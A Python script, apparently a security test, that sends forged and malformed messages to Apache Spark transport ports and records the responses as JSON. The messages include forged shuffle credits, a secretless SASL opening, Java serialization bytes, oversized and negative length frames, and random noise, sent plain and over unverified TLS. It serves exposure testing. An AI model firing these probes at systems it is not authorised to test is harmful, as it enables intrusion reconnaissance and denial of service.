"""The attacks of a foreign client on every port. Run it as `python attack.py HOST PORT...` in the attacker's network.

It prints JSON: for every port the response to each attack, in hexadecimal and cut to 4,096 bytes, or null
if the port is closed. It needs only Python.
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import struct
import sys
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor

CONNECT_S = 1.5
ANSWER_S = 1.0
MAX_BYTES = 4096

CREDIT, TERMINATION_ACK = 1, 3
RPC_REQUEST, CHUNK_REQUEST, STREAM_REQUEST, ONE_WAY, UPLOAD = 3, 0, 6, 9, 10


def frame(kind: int, header: bytes, body: bytes = b"", announced: int | None = None) -> bytes:
    """Return a frame of Spark's transport: its length including itself, the kind of message, the header of the kind, the body."""
    size = 8 + 1 + len(header) + len(body)
    return struct.pack(">QB", size if announced is None else announced, kind) + header + body


def one_way(body: bytes) -> bytes:
    return frame(ONE_WAY, struct.pack(">I", len(body)), body)


def credit(reader: int) -> bytes:
    """Return a credit message of the streaming shuffle: `reader` is ready for records of writer 0."""
    return one_way(struct.pack(">IQIII", CREDIT, 0, 0, reader, 1000))


def sasl(app: bytes) -> bytes:
    """Return the first message of Spark's SASL, which needs no secret."""
    body = b"\xea" + struct.pack(">I", len(app)) + app
    return frame(RPC_REQUEST, struct.pack(">QI", 7, len(body)), body)


MESSAGES = {
    "29 bytes": b"\x00\x00\x00\x00\x00\x00\x00\x1d" + b"\x09" + b"\x00" * 20,
    "credit": credit(0) + credit(1),
    "termination": one_way(struct.pack(">IQII", TERMINATION_ACK, 0, 0, 0)),
    "rpc": frame(RPC_REQUEST, struct.pack(">QI", 1, 64), b"\xac\xed\x00\x05" + b"A" * 60),
    "sasl, then credit": sasl(b"sparkSaslUser") + credit(0),
    "chunk": frame(CHUNK_REQUEST, struct.pack(">QI", 0, 0)),
    "stream": frame(STREAM_REQUEST, struct.pack(">I", 8) + b"/classes"),
    "upload": frame(UPLOAD, struct.pack(">QIQ", 1, 0, 100), b"x" * 100),
    "a gigabyte announced": frame(ONE_WAY, b"", b"y" * 500_000, announced=1 << 30),
    "a negative length": struct.pack(">q", -5) + b"\x00" * 64,
    "http": b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "control hello": b"c" * 32 + struct.pack(">I", 60) + b"h" * 60,
    "control length": b"c" * 32 + struct.pack(">I", 0xFFFFFFFF),
    "noise": os.urandom(70_000),
}


def answer(connection: socket.socket) -> bytes:
    connection.settimeout(ANSWER_S)
    received = b""
    try:
        while len(received) < MAX_BYTES and (more := connection.recv(MAX_BYTES)):
            received += more
    except OSError:
        pass
    return received


def say(address: tuple[str, int], message: bytes, dress: Callable[[socket.socket], socket.socket]) -> bytes | None:
    """Return the response, or None if a connection of this kind fails."""
    try:
        with socket.create_connection(address, CONNECT_S) as plain, dress(plain) as connection:
            try:
                connection.sendall(message)
            except OSError:
                pass
            return answer(connection)
    except OSError:
        return None


def in_tls(connection: socket.socket) -> socket.socket:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context.wrap_socket(connection)


def as_it_is(connection: socket.socket) -> socket.socket:
    return connection


def attack(address: tuple[str, int]) -> dict[str, str] | None:
    """Run all attacks at the same time, like a real attacker."""
    try:
        silent = socket.create_connection(address, CONNECT_S)
    except OSError:
        return None
    tries = {
        f"{name}, {way}": (address, message, dress)
        for name, message in MESSAGES.items()
        for way, dress in (("plain", as_it_is), ("TLS", in_tls))
    }
    with ThreadPoolExecutor(len(tries)) as pool:
        answers = dict(zip(tries, pool.map(lambda one: say(*one), tries.values()), strict=True))
    received = {tried: answered.hex() for tried, answered in answers.items() if answered is not None}
    received["nothing"] = answer(silent).hex()
    silent.close()
    return received


if __name__ == "__main__":
    host, *ports = sys.argv[1:]
    with ThreadPoolExecutor(8) as pool:
        found = pool.map(attack, [(host, int(port)) for port in ports])
        json.dump(dict(zip(ports, found, strict=True)), sys.stdout)
